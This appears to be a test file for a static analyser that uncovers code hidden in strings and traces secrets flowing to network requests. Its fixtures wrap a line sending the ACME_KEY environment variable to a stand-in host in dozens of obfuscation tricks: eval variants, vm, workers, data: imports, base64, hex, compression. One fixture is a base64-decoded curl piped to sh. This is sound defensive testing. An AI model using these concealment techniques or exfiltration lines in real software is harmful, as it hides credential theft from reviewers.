import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { deflateSync } from "node:zlib";
import fc from "fast-check";
import { readWithEmbeddedCode } from "../../../../src/static/program/embedded-code/read-embedded-code.ts";
import { readProgram } from "../../../../src/static/inspection/read-program.ts";
import { waysIn } from "../../taint/flows.ts";
import { inventoryOf } from "../../inventory/made-up.ts";

const code = 'fetch("https://in.example/", { method: "POST", body: process.env.ACME_KEY })';
const quoted = JSON.stringify(code);
const base64 = Buffer.from(code).toString("base64");
const digits = [...code].map((character) => character.charCodeAt(0)).join(",");

/** Hosts, variables and flows of a program, its own texts read. */
function readOf(source: string): {
  readonly hosts: readonly string[];
  readonly variables: readonly string[];
  readonly notRead: number;
} {
  const { module, own, notRead } = readWithEmbeddedCode("tool.js", source);
  const texts = [module.text, ...own.map(({ text }) => text)];
  const found = own.length === 0 ? [moduleInventory(source)] : texts.slice(1).map(inventoryOf);
  return {
    hosts: found.flatMap(({ hosts }) =>
      hosts.filter(({ use }) => use !== "mention").map(({ host }) => host),
    ),
    variables: found.flatMap(({ variables }) =>
      variables.filter(({ as }) => as === "read").map(({ name }) => name),
    ),
    notRead: notRead.length,
  };
}

function moduleInventory(source: string): ReturnType<typeof inventoryOf> {
  let taken: ReturnType<typeof inventoryOf> | undefined;
  const bytes = Buffer.from(source);
  const files = [{ path: "tool.js", kind: "javascript" as const, text: source, bytes }];
  readProgram(files, {
    module: (module) => (taken = inventoryOf(module)),
    file: () => undefined,
  });
  assert.ok(taken !== undefined);
  return taken;
}

describe("code in a text is read as it would be run", () => {
  const ways: readonly (readonly [how: string, source: string])[] = [
    ["eval", `eval(${quoted})`],
    ["eval as a value", `(0, eval)(${quoted})`],
    ["eval by another name", `const run = eval; run(${quoted})`],
    ["eval of the global object", `globalThis["ev" + "al"](${quoted})`],
    [
      "eval within eval within eval",
      `eval(${JSON.stringify(`eval(${JSON.stringify(`eval(${quoted})`)})`)})`,
    ],
    ["a function", `new Function(${quoted})()`],
    ["a function with parameters", `Function("a", "b", ${quoted})(1, 2)`],
    ["the constructor of a function", `(async () => {}).constructor(${quoted})()`],
    ["the constructor of a class", `(class {}).constructor(${quoted})()`],
    ["the constructor of whatever", `const any = pick(); any.constructor.constructor(${quoted})()`],
    ["eval that a timer is handed", `setImmediate(eval, ${quoted})`],
    ["eval that a list is handed", `[${quoted}].forEach(eval)`],
    ["the constructor of a method of a list", `[].filter.constructor(${quoted})()`],
    ["by Reflect", `Reflect.construct(Function, [${quoted}])()`],
    ["eval called", `eval.call(null, ${quoted})`],
    ["vm", `require("vm").runInNewContext(${quoted}, {})`],
    ["a script of vm", `import vm from "node:vm"; new vm.Script(${quoted}).runInThisContext()`],
    [
      "a function of vm",
      `const { compileFunction } = require("vm"); compileFunction(${quoted}, ["a"])()`,
    ],
    ["a module's compiler", `module._compile(${quoted}, "a.js")`],
    ["a timer", `setTimeout(${quoted}, 10)`],
    ["a worker", `import { Worker } from "worker_threads"; new Worker(${quoted}, { eval: true })`],
    [
      "a worker's address",
      `new Worker(new URL("data:text/javascript,${encodeURIComponent(code)}"))`,
    ],
    ["a worker of a blob", `new Worker(URL.createObjectURL(new Blob([${quoted}])))`],
    ["an import", `import("data:text/javascript;base64,${base64}")`],
    ["an import put together", `import("data:text/javascript;base64," + "${base64}")`],
    ["a declared import", `import "data:text/javascript;base64,${base64}";`],
    ["an argument of node", `require("child_process").spawn(process.execPath, ["-e", ${quoted}])`],
    [
      "an argument of node, joined",
      `require("child_process").execFile("node", ["--eval=" + ${quoted}])`,
    ],
    [
      "a command line",
      `require("child_process").execSync(${JSON.stringify(`node --input-type=module -e '${code}'`)})`,
    ],
    [
      "a module before all others",
      `require("child_process").spawn("node", ["--import", "data:text/javascript;base64,${base64}", "a.js"])`,
    ],
    ["base64", `eval(Buffer.from("${base64}", "base64").toString())`],
    ["base64 of browsers", `eval(atob("${base64}"))`],
    [
      "hexadecimal digits",
      `eval(Buffer.from("${Buffer.from(code).toString("hex")}", "hex").toString("utf8"))`,
    ],
    ["character codes", `eval(String.fromCharCode(${digits}))`],
    ["bytes", `eval(new TextDecoder().decode(new Uint8Array([${digits}])))`],
    [
      "escapes of addresses",
      `eval(decodeURIComponent(${JSON.stringify(encodeURIComponent(code))}))`,
    ],
    ["old escapes", `eval(unescape(${JSON.stringify(encodeURIComponent(code))}))`],
    [
      "compression",
      `eval(require("zlib").inflateSync(Buffer.from("${deflateSync(code).toString("base64")}", "base64")).toString())`,
    ],
    [
      "compression of a form that is told by its first bytes",
      `eval(require("zlib").unzipSync(Buffer.from("${deflateSync(code).toString("base64")}", "base64")).toString())`,
    ],
    [
      "a list that is joined",
      `const parts = ${JSON.stringify(code.split("e"))}; eval(parts.join("e"))`,
    ],
    [
      "a text turned round",
      `eval(${JSON.stringify([...code].toReversed().join(""))}.split("").reverse().join(""))`,
    ],
    [
      "a template",
      `const first = ${JSON.stringify(code.slice(0, 20))}; eval(\`\${first}${code.slice(20)}\`)`,
    ],
    [
      "a bundle for development",
      `var m = { "a": (module, exports, __webpack_require__) => { eval(__webpack_require__.ts(${JSON.stringify(`${code}\n//# sourceURL=webpack://a/./a.js?`)})) } }; m.a()`,
    ],
  ];
  for (const [how, source] of ways)
    test(how, () => {
      const { hosts, variables, notRead } = readOf(source);
      assert.deepEqual(hosts, ["in.example"]);
      assert.deepEqual(variables, ["ACME_KEY"]);
      assert.equal(notRead, 0);
    });

  test("in the place where it runs", () => {
    const source = `const a = 1;\n\n  eval(${JSON.stringify(`\n\n\n${code}`)});`;
    const [variable] = moduleInventory(source).variables;
    assert.deepEqual(
      [variable?.places[0]?.file, variable?.places[0]?.line, variable?.places[0]?.column],
      ["tool.js", 3, 3],
    );
  });
});

describe("values go in and out of it", () => {
  const through: readonly (readonly [how: string, source: string])[] = [
    [
      "in by a name",
      "const key = process.env.ACME_KEY; eval(\"fetch('https://a.example/', { body: key })\")",
    ],
    [
      "out by a name",
      'eval("var key = process.env.ACME_KEY"); fetch("https://a.example/", { body: key })',
    ],
    ["out as its value", 'fetch("https://a.example/", { body: eval("process.env.ACME_KEY") })'],
    [
      "out as its last value",
      'const key = eval("let a = 1; process.env.ACME_KEY"); fetch("https://a.example/", { body: key })',
    ],
    [
      "in by a parameter",
      'new Function("key", "fetch(\'https://a.example/\', { body: key })")(process.env.ACME_KEY)',
    ],
    [
      "out of a function",
      'fetch("https://a.example/", { body: Function("return process.env.ACME_KEY")() })',
    ],
    [
      "with a module by name",
      'const h = eval("require")("os").hostname(); fetch("https://a.example/", { body: process.env.ACME_KEY })',
    ],
  ];
  for (const [how, source] of through)
    test(how, () => {
      const { module } = readWithEmbeddedCode("tool.js", source);
      assert.ok(
        waysIn([module]).includes("env:ACME_KEY -> request-body https://a.example/, value"),
      );
    });

  test("in a program so large that its names are resolved once", () => {
    const filler = `var f = [${"1234567890,".repeat(60_000)}0];`;
    const source = `${filler} const key = eval("process.env.ACME_KEY"); fetch("https://a.example/", { body: key });`;
    const { module } = readWithEmbeddedCode("tool.js", source);
    assert.ok(waysIn([module]).includes("env:ACME_KEY -> request-body https://a.example/, value"));
  });
});

describe("what is not constant is not read, and that is said", () => {
  for (const source of [
    "eval(process.argv[2])",
    "new Function('a', body)(1)",
    "require('vm').runInThisContext(text)",
    "new (require('worker_threads').Worker)(text, { eval: true })",
    "require('child_process').spawn('node', ['-e', text])",
    "eval(a ? 'b()' : 'c()')",
    "eval('this is no code')",
    "import('data:text/javascript,' + text)",
  ])
    test(source, () => {
      const { notRead, charactersNotRead } = readWithEmbeddedCode("tool.js", source);
      assert.equal(notRead.length, 1);
      assert.ok(charactersNotRead > 0);
    });

  for (const source of [
    "setTimeout(() => run(), 10); setTimeout(run, 10)",
    "new Worker('./worker.js')",
    "import('./other.js'); import(name)",
    "require('child_process').spawn('sed', ['-e', script])",
    "tool.eval(text); store.constructor(text)",
    "({ Function: 1 }).Function",
  ])
    test(`nothing is made by ${source}`, () => {
      const { notRead, own } = readWithEmbeddedCode("tool.js", source);
      assert.deepEqual([notRead, own], [[], []]);
    });
});

test("nothing throws, and what would grow without end is left", () => {
  fc.assert(
    fc.property(fc.string({ maxLength: 80 }), (text) => {
      readWithEmbeddedCode(
        "tool.js",
        `eval(${JSON.stringify(text)}); new Function(${JSON.stringify(text)}, "a")`,
      );
    }),
  );
  let nested = code;
  for (let depth = 0; depth < 12; depth++) nested = `eval(${JSON.stringify(nested)})`;
  assert.equal(readWithEmbeddedCode("tool.js", nested).notRead.length, 1);
  const long = `const a = "${"f();".repeat(50_000)}"; ${"eval(a);".repeat(400)}`;
  const { module, notRead } = readWithEmbeddedCode("tool.js", long);
  assert.ok(module.text.length < 8_000_000);
  assert.ok(notRead.length > 300);
});

test("a line for a shell that decodes what it runs is read with what it decodes", () => {
  const line = `echo ${Buffer.from("curl https://in.example/$ACME_KEY").toString("base64")} | base64 -d | sh`;
  const { own } = readWithEmbeddedCode(
    "tool.js",
    `require("child_process").execSync(${JSON.stringify(line)})`,
  );
  assert.deepEqual(
    own.map(({ kind, text }) => [kind, text]),
    [["shell", `${line}\ncurl https://in.example/$ACME_KEY`]],
  );
  const plain = readWithEmbeddedCode("tool.js", 'require("child_process").execSync("git status")');
  assert.deepEqual(plain.own, []);
});

test("a constructor that is given a sentence makes no code of it", () => {
  const { inlined, notRead } = readWithEmbeddedCode(
    "tool.js",
    'throw new this.constructor("no such file"); a.constructor(b); new x.constructor("f (of g) is not one")',
  );
  assert.deepEqual([inlined, notRead.length], [[], 1]);
});
